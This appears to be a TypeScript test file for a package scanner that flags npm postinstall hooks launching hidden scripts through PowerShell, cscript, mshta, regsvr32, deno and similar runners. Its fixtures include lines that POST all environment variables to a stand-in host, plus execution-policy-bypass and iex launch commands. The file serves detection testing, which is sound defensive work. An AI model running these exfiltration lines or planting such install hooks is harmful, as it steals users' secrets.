import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { ContentFacts } from '../../src/model/fact.ts'
import { packedReading } from './python-reading.ts'

const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
const POWERSHELL_SENDS = 'iwr https://c.example/ -Method Post -Body (Get-ChildItem env: | Out-String)\n'
const SCRIPT_HOST =
  'var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("POST", "https://c.example/", false); h.send("a")\n'

type Files = Readonly<Record<string, string>>

async function installedBy(command: string, files: Files): Promise<ContentFacts> {
  const manifest = { name: 'sample', version: '1.0.0', scripts: { postinstall: command } }
  const all = { 'package.json': JSON.stringify(manifest), ...files }
  return inspect(await packedReading('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
}

/** How PowerShell is given a file of the package, whatever its name. */
const BY_POWERSHELL: readonly (readonly [command: string, path: string])[] = [
  ['powershell -File s', 's'],
  ['powershell s', 's'],
  ['pwsh s.txt', 's.txt'],
  ['powershell -NoProfile -ExecutionPolicy Bypass -File s.txt', 's.txt'],
  ['powershell -ep bypass -f lib/s.dat', 'lib/s.dat'],
  ['powershell -Command ". ./s"', 's'],
  ['powershell -Command "iex (gc s -Raw)"', 's'],
  ['powershell "gc s.txt | iex"', 's.txt'],
  ['powershell -Command ./s.ps1', 's.ps1'],
  ['powershell -Command "lib/s.ps1"', 'lib/s.ps1'],
  ['pwsh -c "[scriptblock]::Create((Get-Content s.txt -Raw)).Invoke()"', 's.txt'],
  ['powershell - < s.txt', 's.txt'],
  ['type s.txt | powershell -', 's.txt'],
  ['cat s.txt | pwsh -Command -', 's.txt'],
]

t.test('what PowerShell is given is read as PowerShell, whatever its name', async (t) => {
  for (const [command, path] of BY_POWERSHELL) {
    const { findings } = await installedBy(command, { [path]: POWERSHELL_SENDS })
    t.ok(
      findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'),
      command,
    )
  }
})

t.test('what a script of PowerShell starts is followed', async (t) => {
  const { findings } = await installedBy('powershell ./a.ps1', { 'a.ps1': 'node .\\s.txt\n', 's.txt': SENDS })
  t.ok(findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'))
})

/** Files that are given to programs whose languages are not read, whatever their names. */
const BY_OTHERS: readonly (readonly [command: string, path: string, text?: string])[] = [
  ['cscript s.js', 's.js'],
  ['cscript //nologo s.js', 's.js'],
  ['cscript //E:jscript s.txt', 's.txt'],
  ['wscript /e:jscript s.txt', 's.txt'],
  ['wscript //B s', 's'],
  ['cmd /c cscript s.dat //E:vbscript', 's.dat'],
  ['start /b wscript s.vbs', 's.vbs'],
  ['s.vbs', 's.vbs'],
  ['s.wsf', 's.wsf'],
  ['start s.js', 's.js'],
  ['mshta s.html', 's.html'],
  ['mshta "%cd%\\s.txt"', 's.txt'],
  ['regsvr32 /s /i:s.sct scrobj.dll', 's.sct'],
  ['msiexec /q /i s.dat', 's.dat'],
  ['perl s.txt', 's.txt'],
  ['ruby s', 's'],
  ['cat s.txt | perl', 's.txt'],
]

t.test('what a program is given whose language is not read is said to be unread', async (t) => {
  for (const [command, path] of BY_OTHERS) {
    const { findings } = await installedBy(command, { [path]: SCRIPT_HOST })
    const found = findings.find(({ check }) => check === 'opaque-program')
    t.match(found, { moment: 'install', message: /in a language that is not read/ }, command)
    t.match(found?.message, path, command)
  }
})

/** What runs code as Node does, under other names. */
const BY_RUNNERS: readonly (readonly [command: string, path: string])[] = [
  ['npx tsx s.txt', 's.txt'],
  ['deno run -A s', 's'],
  ['deno run --allow-all ./s.dat', 's.dat'],
  ['deno eval "import \'./s.txt\'"', 's.txt'],
  ['ts-node-esm s.mts', 's.mts'],
  ['ts-node-script s.ts', 's.ts'],
  ['tsnd --respawn s.ts', 's.ts'],
  ['esno s.ts', 's.ts'],
  ['swc-node s.ts', 's.ts'],
  ['sucrase-node s', 's'],
  ['qjs s.txt', 's.txt'],
]

t.test('what runs JavaScript under another name is followed', async (t) => {
  for (const [command, path] of BY_RUNNERS) {
    const { surface, findings } = await installedBy(command, { [path]: SENDS })
    t.ok(
      surface.some((entry) => entry.path === path && entry.moment === 'install'),
      command,
    )
    t.ok(
      findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'),
      command,
    )
  }
})

/** Commands that name a file, and run nothing that is not read. */
const ORDINARY: readonly (readonly [command: string, files: Files])[] = [
  ['powershell -Command "Write-Output s.txt"', { 's.txt': POWERSHELL_SENDS }],
  ['powershell -File s.ps1', { 's.ps1': 'Write-Host "Get-Content is a command"\n' }],
  ['sh s.sh', { 's.sh': '# Get-Content, Set-Content\necho ok\n' }],
  ['node s.js', { 's.js': '// WScript.Echo\nconsole.log(1)\n' }],
  ['perl -e 1', { 's.txt': SCRIPT_HOST }],
  ['cscript //?', { 's.js': SCRIPT_HOST }],
  ['deno --version', { 's.ts': '' }],
]

t.test('ordinary commands that name such programs and files are none of these', async (t) => {
  for (const [command, files] of ORDINARY) {
    const { findings } = await installedBy(command, files)
    t.same(
      findings.filter(({ check, severity }) => check === 'opaque-program' || severity === 'critical'),
      [],
      command,
    )
  }
})
